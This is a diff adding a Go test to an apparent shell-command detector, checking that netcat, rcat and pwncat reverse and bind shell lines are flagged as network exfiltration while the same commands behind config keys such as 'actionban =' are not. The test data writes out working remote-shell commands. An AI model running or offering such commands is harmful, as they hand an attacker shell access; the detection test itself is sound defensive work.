@@ -180,3 +180,27 @@ func TestPrecisionNetcatRelays(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestPrecisionConfigKeyLines: "KEY = VALUE" typed as a shell line runs a
+// program named KEY with the arguments "=", VALUE…; the configuration
+// files that hold commands as values (fail2ban's jail actions,
+// "actionban = …"; knockd's "start_command = …"; supervisord's "command
+// = …") have no program of the key's name, so nothing runs (README: a
+// config line run as a shell line runs nothing; heldout9's v1476). The
+// generic rule for netcat clones (peerShell: an exec option with a shell
+// and a port) read the value as the key's own options. The same command
+// without its key stays marked.
+func TestPrecisionConfigKeyLines(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`/usr/bin/nc 10.0.0.1 4444 -e /bin/bash`, NetworkExfiltration},
+		{`rcat l -ie '/usr/bin/script -qc /bin/bash /dev/null' 6969`, NetworkExfiltration},
+		{`pwncat-cs -lp 4444 --exec /bin/sh`, NetworkExfiltration},
+		{`actionban = /usr/bin/nc 10.0.0.1 4444 -e /bin/bash`, ""},
+		{`start_command = /usr/bin/ncat -l 4444 -e /bin/sh`, ""},
+		{`actionstart = /usr/bin/nc -lvp 4444 -e /bin/sh`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
